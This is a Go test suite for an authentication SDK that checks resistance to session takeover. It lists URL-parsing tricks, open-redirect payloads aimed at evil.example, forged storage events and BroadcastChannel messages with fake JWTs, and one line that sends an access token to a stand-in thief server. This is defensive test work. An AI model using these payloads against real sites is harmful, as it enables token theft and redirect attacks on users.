package sdk

// Takeovers: what somebody does who wants another's session, or wants another to have theirs.

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"latchkey/internal/authtest"
	"latchkey/rigs/stage"
)

// mallory is whoever tries, with an account of their own and authtest.Password.
const mallory = "mallory@example.com"

// newVictim is a tab where ada is signed in, in a world that mallory has an account in, too.
func newVictim(t *testing.T) *tab {
	t.Helper()
	w := newWorld(t)
	w.rig.AddUser(t, email)
	w.rig.AddUser(t, mallory)
	one := w.newProfile("local").newTab()
	one.openApp()
	one.signIn(email)
	return one
}

// remains asserts that it is still ada who is signed in, at the API as well.
func (one *tab) remains() {
	one.w.t.Helper()
	const call = `auth.fetch("/api").then(async (answer) => [auth.session?.user.email, answer.status, await answer.text()].join(), String)`
	if got, want := evaluate[string](one, call), email+",200,"+email; got != want {
		one.w.t.Errorf("session, status and answer of the API: %s, want %s", got, want)
	}
}

// exchanges are the codes that pages have sent.
func (w *world) exchanges() (codes []string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, c := range w.calls {
		if c.exchange() != "" {
			codes = append(codes, c.exchange())
		}
	}
	return codes
}

// stranger is another's server, which every page may ask anything.
type stranger struct {
	url string
	mu  sync.Mutex
	got []http.Header
}

func newStranger(t *testing.T) *stranger {
	t.Helper()
	port, err := authtest.FreePort(t.Cleanup)
	if err != nil {
		t.Fatal(err)
	}
	s := &stranger{url: "http://localhost:" + port}
	stage.ServeAt(t, s.url, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "Authorization")
		if r.Method != http.MethodOptions {
			s.got = append(s.got, r.Header)
		}
	}))
	return s
}

// tokens are what it has been sent since it was last asked, and how many requests there were.
func (s *stranger) tokens() (tokens []string, requests int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, header := range s.got {
		if token := header.Get("Authorization"); token != "" {
			tokens = append(tokens, token)
		}
	}
	requests, s.got = len(s.got), nil
	return tokens, requests
}

func TestFetchToAnotherOrigin(t *testing.T) {
	one := newVictim(t)
	thief := newStranger(t)
	host := strings.TrimPrefix(thief.url, "http://")

	for name, input := range map[string]string{
		"another port":            thief.url + "/",
		"no scheme":               "//" + host + "/",
		"backslashes":             `\\` + host + "/",
		"a slash and a backslash": `/\` + host + "/",
		"a tab between slashes":   "/\t/" + host + "/",
		"backslashes of a scheme": `http:\\` + host + "/",
		"our host as user info":   "http://" + strings.TrimPrefix(one.w.url, "http://") + "@" + host + "/",
		"another name of ours":    strings.Replace(one.w.url, "localhost", "127.0.0.1", 1) + "/api",
		"another scheme":          strings.Replace(one.w.url, "http:", "https:", 1) + "/api",
		"data:":                   "data:text/plain,hello",
		"blob: of another origin": "blob:" + thief.url + "/5e1b2f3c-8d0a-4f5e-9b1c-2d3e4f5a6b7c",
		"the issuer":              one.w.issuer + "/oauth/userinfo",
	} {
		t.Run(name, func(t *testing.T) {
			quoted, _ := json.Marshal(input)
			for _, given := range []string{string(quoted), "new URL(" + string(quoted) + ", location.href)"} {
				if got := evaluate[string](one, "auth.fetch("+given+").then(() => 'sent', (error) => error.code)"); got != "origin_not_allowed" {
					t.Errorf("fetch(%s): %q, want origin_not_allowed", given, got)
				}
			}
			if tokens, requests := thief.tokens(); requests > 0 {
				t.Errorf("it was asked %d times, and sent %q", requests, tokens)
			}
		})
	}
	t.Run("a Request", func(t *testing.T) {
		if got := evaluate[string](one, fmt.Sprintf("auth.fetch(new Request(%q)).then(() => 'sent', (error) => error.code)", thief.url)); got != "origin_not_allowed" {
			t.Errorf("%q, want origin_not_allowed", got)
		}
	})
	t.Run("a blob of ours", func(t *testing.T) { // which is asked of nobody
		if got := evaluate[string](one, "auth.fetch(URL.createObjectURL(new Blob(['hello']))).then((answer) => answer.text(), (error) => error.code)"); got != "hello" && got != "origin_not_allowed" {
			t.Errorf("%q", got)
		}
	})
	for _, status := range []int{301, 302, 303, 307, 308} {
		t.Run(fmt.Sprintf("a redirect by %d", status), func(t *testing.T) {
			away := fmt.Sprintf("/away?status=%d&to=%s", status, url.QueryEscape(thief.url))
			if got := evaluate[int](one, fmt.Sprintf("auth.fetch(%q, { method: 'POST', body: 'x' }).then((answer) => answer.status)", away)); got != 200 {
				t.Errorf("status %d", got)
			}
			tokens, requests := thief.tokens()
			if requests != 1 || len(tokens) > 0 {
				t.Errorf("it was asked %d times, and sent %q", requests, tokens)
			}
		})
	}
	t.Run("a base of the page", func(t *testing.T) {
		evaluate[any](one, fmt.Sprintf("void document.head.append(Object.assign(document.createElement('base'), { href: %q }))", thief.url))
		got := evaluate[string](one, "auth.fetch('/api').then((answer) => answer.text(), (error) => error.code)")
		evaluate[any](one, "document.querySelector('base').remove()")
		tokens, requests := thief.tokens()
		if requests > 0 {
			t.Errorf("it was asked %d times, and sent %q; the call: %s", requests, tokens, got)
		}
	})
	t.Run("what a token looks like there", func(t *testing.T) { // or all of the above means nothing
		evaluate[any](one, fmt.Sprintf("auth.getAccessToken().then((token) => fetch(%q, { headers: { Authorization: 'Bearer ' + token } })).then(() => null)", thief.url))
		if tokens, _ := thief.tokens(); len(tokens) != 1 {
			t.Errorf("it was sent %q, want one token", tokens)
		}
	})
}

func TestReturnToElsewhere(t *testing.T) {
	one := newVictim(t)
	for name, returnTo := range map[string]string{
		"another origin":                     "https://evil.example/",
		"no scheme":                          "//evil.example/",
		"a slash and a backslash":            `/\evil.example/`,
		"backslashes":                        `\\evil.example/`,
		"a tab between slashes":              "/\t/evil.example/",
		"a line end between slashes":         "/\n/evil.example/",
		"spaces before":                      " //evil.example/",
		"a control character before":         "\x01//evil.example/",
		"script":                             "javascript:document.title='evil'",
		"data:":                              "data:text/html,evil",
		"a scheme without slashes":           "https:evil.example",
		"slashes after a dot":                "/.//evil.example/",
		"slashes after a step up":            "/..//evil.example/",
		"backslashes after a dot":            `/.\\evil.example/`,
		"an encoded tab":                     "/%09/evil.example/",
		"user info":                          "https://" + strings.TrimPrefix(one.w.url, "http://") + "@evil.example/",
		"our origin at the beginning of one": one.w.url + ".evil.example/",
	} {
		t.Run(name, func(t *testing.T) {
			one.leaves()
			quoted, _ := json.Marshal(returnTo)
			evaluate[any](one, "void auth.signIn({ returnTo: "+string(quoted)+" })") // whose page session needs no password
			one.arrive("shop.came")
			came := evaluate[string](one, "shop.came.returnTo")
			if came == "/" {
				return
			}
			one.leaves()
			evaluate[any](one, "void location.assign(shop.came.returnTo)")
			one.await("!globalThis.shop && document.readyState === 'complete'")
			if at := evaluate[string](one, "location.origin"); at != one.w.url {
				t.Errorf("returnTo is %q, which leads to %s", came, at)
			}
			one.openApp()
		})
	}
}

// stored is the record of the session in the tab's profile.
func (one *tab) stored() string {
	one.w.t.Helper()
	return evaluate[string](one, fmt.Sprintf("localStorage.getItem('latchkey:%s:shop')", one.w.issuer))
}

// another is the sound record of mallory's own session, from a profile of their own.
func (w *world) another() string {
	w.t.Helper()
	thief := w.newProfile("local").newTab()
	thief.openApp()
	thief.signIn(mallory)
	return thief.stored()
}

func TestForgedStorageEvent(t *testing.T) {
	one := newVictim(t)
	w := one.w
	theirs := w.another()
	before := one.stored()
	sid := evaluate[string](one, "auth.session.sid")
	nobody := w.newProfile("local").newTab()
	nobody.openApp()
	key := "latchkey:" + w.issuer + ":shop"
	for name, event := range map[string]map[string]any{
		"another's record":    {"key": key, "newValue": theirs, "oldValue": before},
		"no record":           {"key": key, "newValue": nil, "oldValue": before},
		"a mark":              {"key": key + ":ended", "newValue": fmt.Sprintf(`{"v":1,"ended":{%q:%d}}`, sid, w.start.UnixMilli())},
		"everything cleared":  {"key": nil},
		"no JSON":             {"key": key, "newValue": "{"},
		"JSON of no record":   {"key": key, "newValue": "[]"},
		"a request's outcome": {"key": key + ":request:x", "newValue": `{"at":1,"returnTo":"//evil.example/"}`},
	} {
		t.Run(name, func(t *testing.T) {
			init, _ := json.Marshal(event)
			for _, tab := range []*tab{one, nobody} {
				evaluate[any](tab, "window.dispatchEvent(new StorageEvent('storage', { ...("+string(init)+"), storageArea: localStorage }))")
			}
			w.run(time.Second)
			one.remains()
			if evaluate[bool](nobody, "auth.session !== null") {
				t.Error("somebody is signed in where nobody was")
			}
		})
	}
	if sent := slices.IndexFunc(w.calls, func(c *call) bool { return c.refresh() != "" }); sent >= 0 {
		t.Error("something was refreshed")
	}
}

// A page of the same origin says what it likes. It can read the tokens as well, but it plants a session nowhere and
// switches nobody.
func TestForgedMessages(t *testing.T) {
	one := newVictim(t)
	w := one.w
	theirs := w.another()
	mouth := one.profile.newTab()
	mouth.visit(w.url + "/blank")
	evaluate[any](mouth, fmt.Sprintf(`void (globalThis.forged = %s, globalThis.channel = new BroadcastChannel("latchkey:%s:shop"))`, theirs, w.issuer))
	nobody := w.newProfile("memory").newTab()
	nobody.openApp()
	shouts := nobody.profile.newTab()
	shouts.visit(w.url + "/blank")
	evaluate[any](shouts, fmt.Sprintf(`void (globalThis.forged = %s, globalThis.channel = new BroadcastChannel("latchkey:%s:shop"))`, theirs, w.issuer))
	evaluate[any](mouth, fmt.Sprintf("void (globalThis.ours = %s)", one.stored()))
	evaluate[any](shouts, "void (globalThis.ours = forged)")

	const jwt = "const jwt = (claims) => ['e30', btoa(JSON.stringify(claims)).replace(/=/g, '').replace(/[+]/g, '-').replace(/[/]/g, '_'), 'c2ln'].join('.');"
	for name, message := range map[string]string{
		"another's record as new":         "{ t: 'new', stored: forged }",
		"another's record as an answer":   "{ t: 'have', stored: forged }",
		"to a question that nobody asked": "{ t: 'have', id: 'AAAAAAAAAAAAAAAAAAAAAA', stored: forged }",
		"another's tokens under our sid":  "{ t: 'new', stored: { ...forged, sid: ours.sid, session: ours.session } }",
		"our tokens as another's session": "{ t: 'new', stored: { ...ours, endsAt: ours.endsAt + 1, session: { ...ours.session, user: forged.session.user } } }",
		"the end of another's session":    "{ t: 'ended', sid: forged.sid }",
		"the end of what is no sid":       "{ t: 'ended', sid: { toString: 1 } }",
		"the end of every object":         "{ t: 'ended', sid: '__proto__' }",
		"a question without an id":        "{ t: 'ask', sid: null }",
		"a word of another version":       "{ v: 2, t: 'gone', sid: ours.sid }",
		"nothing":                         "null",
		"a number":                        "7",
		"a long text":                     "'x'.repeat(1e6)",
		"made-up tokens of a late generation": `{ t: 'new', stored: { ...ours, endsAt: ours.endsAt + 1e12,
			refreshToken: jwt({ sid: ours.sid, gen: 1e9 }),
			accessToken: jwt({ sid: ours.sid, sub: ours.session.user.id, iat: 1, exp: 4e9 }) } }`,
	} {
		t.Run(name, func(t *testing.T) {
			for _, said := range []string{"JSON.stringify(" + message + ")", message} {
				for speaker, hearer := range map[*tab]*tab{mouth: one, shouts: nobody} {
					hearer.isTold(speaker, jwt+" channel.postMessage("+said+")")
				}
			}
			w.run(time.Second)
			one.remains()
			if evaluate[bool](nobody, "auth.session !== null") {
				t.Error("somebody is signed in where nobody was")
			}
			if strings.HasPrefix(name, "made-up") {
				w.run(11 * time.Minute) // over a refresh
				one.remains()
			}
			evaluate[any](mouth, fmt.Sprintf("void (globalThis.ours = %s)", one.stored()))
		})
	}
}

// isTold has another page, one that nothing is counted of, post a message, and waits until the tab has heard it.
func (one *tab) isTold(by *tab, script string) {
	one.w.t.Helper()
	got := func() int {
		one.w.mu.Lock()
		defer one.w.mu.Unlock()
		return one.shows.Got
	}
	before := got()
	evaluate[any](by, "{ "+script+" }")
	for end := time.Now().Add(stage.Patience); got() == before; time.Sleep(time.Millisecond) {
		if time.Now().After(end) {
			one.w.t.Fatalf("tab %d never heard %s", one.n, script)
		}
	}
	one.forgive()
	one.w.settle()
}

// forgive forgets that the tab has heard what no page said that is counted.
func (one *tab) forgive() {
	if err := one.asks("held.state()"); err != nil {
		one.w.t.Fatal(err)
	}
	one.w.mu.Lock()
	defer one.w.mu.Unlock()
	one.profile.messages = 0
}

// Calls wait for tokens, or for the API, when somebody else signs in in the next tab.
func TestAnotherUserWhileACallWaits(t *testing.T) {
	one := newVictim(t)
	w := one.w
	w.run(7 * time.Minute)
	next := one.profile.newTab()
	next.openApp()
	address := next.stolen(mallory)
	w.fate = func(c *call) (f fate) {
		if c.refresh() != "" {
			f.after = 5 * time.Second
		}
		return f
	}
	evaluate[any](one, `void (globalThis.became = [
		auth.getAccessToken({ minValidity: 200 }),
		auth.fetch("/api?refuse"),
		auth.fetch("/api?refuse", { method: "POST", body: "x" }),
	].map((call) => call.then(() => "answered", (error) => error.code)))`)
	w.run(200 * time.Millisecond) // others may have refreshed, as storage has changed: a tab looks for a moment
	if len(w.waiting) != 1 {
		t.Fatalf("%d answers take their time, want that to the refresh", len(w.waiting))
	}
	next.visit(address)
	next.arrive("shop.email")
	w.run(10 * time.Second)
	if got := evaluate[string](one, "Promise.all(became).then(String)"); got != "session_changed,session_changed,session_changed" {
		t.Errorf("the calls became %s", got)
	}
	asked := 0
	for _, c := range w.calls {
		if c.query.Has("refuse") {
			asked++
			if c.whose != email {
				t.Errorf("a call of %s went out with the token of %q", email, c.whose)
			}
		}
	}
	if asked != 2 {
		t.Errorf("the API was asked %d times, want each call once", asked)
	}
	for _, tab := range []*tab{one, next} {
		if got := evaluate[string](tab, `auth.fetch("/api").then(async (answer) => [auth.session.user.email, await answer.text()].join())`); got != mallory+","+mallory {
			t.Errorf("afterwards tab %d has %s", tab.n, got)
		}
	}
	if heard := one.hears("switched").Email; heard != mallory {
		t.Errorf("it was switched to %q", heard)
	}
}
